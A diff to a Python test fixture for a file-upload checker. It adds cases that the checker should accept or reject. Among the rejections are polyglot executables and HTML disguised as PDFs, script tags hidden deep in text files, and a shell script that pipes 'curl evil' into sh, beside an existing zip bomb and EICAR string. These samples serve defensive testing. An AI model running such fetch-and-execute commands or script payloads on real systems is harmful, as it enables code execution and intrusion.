@@ -52,6 +52,8 @@ ODT = _zip(
     {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}
 )
 ZIP_BOMB = _zip({"bomb.txt": b"\x00" * 5_000_000})
+CHUNK = 1024 * 1024  # check_upload reads text in chunks of this size
+MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01"
 EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
 
 # (content name, bytes, extension it claims, accepted?)
@@ -101,6 +103,39 @@ CONTENTS: list[tuple[str, bytes, str, bool]] = [
     ),
     ("elf-as-pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 200, ".pdf", False),
     ("exe-as-pdf", b"MZ\x90\x00" + b"\x00" * 200, ".pdf", False),
+    ("pdf-after-bom-and-whitespace", b"\xef\xbb\xbf \r\n" + MINIMAL_PDF, ".pdf", True),
+    ("csv-with-angle-brackets", b"a<b;b>c\n1;2\n", ".csv", True),
+    (
+        "text-cp1251",
+        "Акт сверки взаиморасчётов\n".encode("cp1251") * 2000,
+        ".txt",
+        True,
+    ),
+    # A long UTF-8 text: two-byte letters fall across the reader's chunk boundary.
+    ("text-utf8-long", ("ж" * 99 + "\n").encode() * 6000, ".txt", True),
+    # Signatures must be at the start, not anywhere in the first kilobyte.
+    ("exe-pdf-polyglot", b"MZ\x90\x00" + b"\x00" * 60 + MINIMAL_PDF, ".pdf", False),
+    ("macho-pdf-polyglot", MACHO + MINIMAL_PDF, ".pdf", False),
+    (
+        "html-pdf-polyglot",
+        b"<html><script>alert(1)</script><!--" + MINIMAL_PDF + b"-->",
+        ".pdf",
+        False,
+    ),
+    ("text-then-pdf", b"Read me first\n" + MINIMAL_PDF, ".pdf", False),
+    ("exe-as-txt", b"MZ" + b"A" * 200, ".txt", False),
+    ("shebang-as-txt", b"#!/bin/sh\ncurl evil | sh\n", ".txt", False),
+    ("shebang-after-bom-as-txt", b"\xef\xbb\xbf#!/usr/bin/env python\n", ".txt", False),
+    ("macho-as-txt", MACHO + b"A" * 200, ".txt", False),
+    # Whole text files are read: markup or NUL far beyond the first 8 KB.
+    ("html-after-8k-as-txt", b"a" * 9000 + b"<script>alert(1)</script>", ".txt", False),
+    (
+        "html-across-a-chunk-boundary",
+        b"a" * (CHUNK - 4) + b"<SCRIPT>alert(1)</script>",
+        ".txt",
+        False,
+    ),
+    ("nul-after-8k-as-txt", b"a" * 20_000 + b"\x00", ".txt", False),
     ("docm-macros", DOCM, ".docx", False),
     ("xlsx-named-docx", XLSX, ".docx", False),
     ("docx-named-pdf", DOCX, ".pdf", False),
